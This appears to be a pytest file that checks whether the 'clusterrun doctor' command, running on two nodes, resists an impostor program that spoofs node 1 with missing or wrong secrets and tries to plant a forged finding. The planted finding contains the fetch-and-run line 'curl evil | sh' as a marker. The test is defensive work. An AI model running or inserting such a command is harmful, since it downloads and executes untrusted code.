"""``clusterrun doctor`` over two nodes while another program calls at their ports."""

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
from free_ports import free_port
from msgspec.msgpack import Decoder

from tests.contract.launched import Launcher
from tests.doctor.door import (
    BadFrame,
    Finding,
    Introduction,
    Level,
    Message,
    OwnFindings,
    WaitingChannel,
    member_handshake,
)
from tests.waiting import SECONDS_TO_ACT

PLANTED = Finding(Level.FAILURE, "as root", "as root", "as root: curl evil | sh")

SECONDS_BETWEEN_CALLS = 0.02

COMES_LATE = """
import os, time
if os.environ.get("RANK") == "1":
    time.sleep(2)
"""
"""Node 1's worker: until it comes, node 0's waits for calls."""


class Planted:
    """A program that calls at a port again and again, and says that it is node 1."""

    def __init__(self, port: int) -> None:
        self.answered: set[bytes | None] = set()
        """The secrets with which a call was answered by something; None: it spoke another protocol."""
        self._port = port
        self._ends = threading.Event()
        self._thread = threading.Thread(target=self._call_all)

    @contextmanager
    def calling(self) -> Iterator[None]:
        self._thread.start()
        yield
        self._ends.set()
        self._thread.join()

    def _call_all(self) -> None:
        while not self._ends.wait(SECONDS_BETWEEN_CALLS):
            for secret in (None, b"", b"\n", b"a wrong secret"):
                with suppress(OSError), socket.create_connection(("127.0.0.1", self._port)) as sock:
                    self._speak(secret, sock)

    def _speak(self, secret: bytes | None, sock: socket.socket) -> None:
        if secret is None:
            sock.sendall(b'1\n{"has_failed":true,"what":"as root","advice":"as root"}\n')
            sock.settimeout(0.2)
            sock.recv(1)
        else:
            channel = WaitingChannel(
                Decoder(Introduction | Message), sock, member_handshake(secret)
            )
            channel.send(Introduction(1))
            channel.send(OwnFindings(None, (PLANTED,)))
            with suppress(BadFrame):
                channel.next(Introduction, 0.2)
        self.answered.add(secret)


@pytest.mark.long
@pytest.mark.parametrize("token", ["", "a secret of these two nodes"])
def test_it_changes_nothing(clusterrun: Launcher, tmp_path: Path, token: str) -> None:
    """Without the token and with a wrong one: nothing that it sends is printed, no node is missed."""
    port = free_port()
    (tmp_path / "sitecustomize.py").write_text(COMES_LATE)
    variables = {"PYTHONPATH": str(tmp_path), **({"CLUSTERRUN_TOKEN": token} if token else {})}
    words = ("doctor", "--json", "--nnodes=2", "--master-addr=127.0.0.1", f"--master-port={port}")
    planted = Planted(port)
    with planted.calling():
        jobs = [
            clusterrun.command(*words, f"--node-rank={rank}", environ=variables) for rank in (0, 1)
        ]
        ends = [job.ended(SECONDS_TO_ACT) for job in jobs]

    assert len(planted.answered) == 4
    answer = json.loads(ends[0].out)
    assert len(answer["nodes"]) == 2
    assert [each for each in answer["findings"] if each["what"] in {"answers", "as root"}] == []
    assert "as root" not in f"{ends}"
    assert ends[1].out == ""
